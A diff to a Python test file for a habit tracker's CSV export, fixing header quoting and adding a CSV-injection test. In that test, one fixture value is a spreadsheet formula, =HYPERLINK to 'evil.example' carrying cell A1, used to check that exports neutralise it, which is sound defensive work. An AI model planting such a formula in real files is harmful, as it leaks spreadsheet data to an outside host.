@@ -359,9 +359,12 @@ def test_csv_quoting_in_notes(exported) -> None:
 
 # -- the wide files -----------------------------------------------------------------------------
 def test_wide_files(exported) -> None:
-    """One row per day from today back to the oldest stored entry (Run's T-30), trailing commas."""
+    """One row per day from today back to the oldest stored entry (Run's T-30), trailing commas.
+
+    Loop writes the names into the header as they are; a name with a comma or a quote
+    is quoted here, so that the header has as many fields as the rows."""
     _, files = exported
-    header = "Date," + "".join(name + "," for name in NAMES)
+    header = "Date," + "".join((f'"{n.replace(chr(34), 2 * chr(34))}"' if "," in n or '"' in n else n) + "," for n in NAMES)
     checks_by_habit = [{date: label for date, label, _ in checks} for checks in EXPECTED_CHECKS]
     scores_by_habit = expected_scores()
     want_checks = [header]
@@ -374,7 +377,7 @@ def test_wide_files(exported) -> None:
     assert files["Scores.csv"].decode("utf-8") == "\n".join(want_scores) + "\n"
     # Spot checks of the above, written out.
     lines = files["Checkmarks.csv"].decode("utf-8").split("\n")
-    assert lines[0] == 'Date,Meditate,Run,Pay bills, "monthly",Screen time,Pages,瞑想,' + LONG_NAME + ","
+    assert lines[0] == 'Date,Meditate,Run,"Pay bills, ""monthly""",Screen time,Pages,瞑想,' + LONG_NAME + ","
     assert lines[1] == f"{d(0)},YES_MANUAL,YES_AUTO,YES_AUTO,1000,12500,UNKNOWN,UNKNOWN,"
     assert lines[31] == f"{d(30)},UNKNOWN,YES_MANUAL,UNKNOWN,UNKNOWN,UNKNOWN,UNKNOWN,UNKNOWN,"
     assert len(lines) == 33 and lines[32] == ""
@@ -396,8 +399,9 @@ def test_header_only_wide_files_when_nothing_is_stored(tracker, tmp_path: Path) 
         "002 Floss daily/Scores.csv", "002 Floss daily/Checkmarks.csv",
         "Scores.csv", "Checkmarks.csv",
     ]
-    assert files["Scores.csv"] == b"Date,Meditate,Floss, daily,\n"
-    assert files["Checkmarks.csv"] == b"Date,Meditate,Floss, daily,\n"
+    assert files["Scores.csv"] == b'Date,Meditate,"Floss, daily",\n'
+    assert files["Checkmarks.csv"] == b'Date,Meditate,"Floss, daily",\n'
+    assert len(next(csv.reader(io.StringIO(files["Checkmarks.csv"].decode())))) == 4  # Date, two habits, the trailing comma
     assert files["001 Meditate/Checkmarks.csv"] == b"Date,Value,Notes\n"
     assert files["001 Meditate/Scores.csv"] == f"Date,Score\n{d(0)},0.0000\n".encode()
 
@@ -528,3 +532,33 @@ def test_round_trip_through_the_cli(cli, tmp_path: Path) -> None:
     wide = rows(files["Checkmarks.csv"])
     assert wide[1][0] == TODAY_DATE.isoformat() and wide[-1][0] == oldest
     assert len(wide) - 1 == (TODAY_DATE - dt.date.fromisoformat(oldest)).days + 1
+
+
+def test_text_that_a_spreadsheet_would_run_is_neutralised_and_comes_back(tracker, tmp_path: Path) -> None:
+    """OWASP's advice against CSV injection: a leading apostrophe, which the import takes off again."""
+    from habitdesk.core.habit import Habit, Kind
+    from habitdesk.facade.tracker import Tracker
+    from tests.conftest import TODAY
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Run")'
+    tracker.add_habit(Habit(formula, question="+1 for today?", description="@admin", kind=Kind.MEASURABLE, unit="-kg", target_value=5.0))
+    plain = tracker.add_habit(Habit("Read"))
+    tracker.set_entry(plain, TODAY, YES_MANUAL, "-5 pages, =fine")
+    out = tmp_path / "x.zip"
+    tracker.export_loop_csv(out)
+    _, files = read_zip(out)
+    [row] = [r for r in csv.reader(io.StringIO(files["Habits.csv"].decode())) if r[0] == "001"]
+    assert (row[1], row[3], row[4], row[8]) == ("'" + formula, "'+1 for today?", "'@admin", "'-kg")
+    notes = list(csv.reader(io.StringIO(files["002 Read/Checkmarks.csv"].decode())))
+    assert notes[1][2] == "'-5 pages, =fine"
+    header = next(csv.reader(io.StringIO(files["Checkmarks.csv"].decode())))
+    assert header[1] == "'" + formula and not any(cell.startswith(("=", "+", "-", "@")) for cell in header)
+
+    other = Tracker(tmp_path / "again", today=TODAY)
+    try:
+        import_file(other, out)
+        [back, read] = other.habits()
+        assert (back.name, back.question, back.description, back.unit) == (formula, "+1 for today?", "@admin", "-kg")
+        assert other.entry(read, TODAY) == (YES_MANUAL, "-5 pages, =fine")
+    finally:
+        other.close()
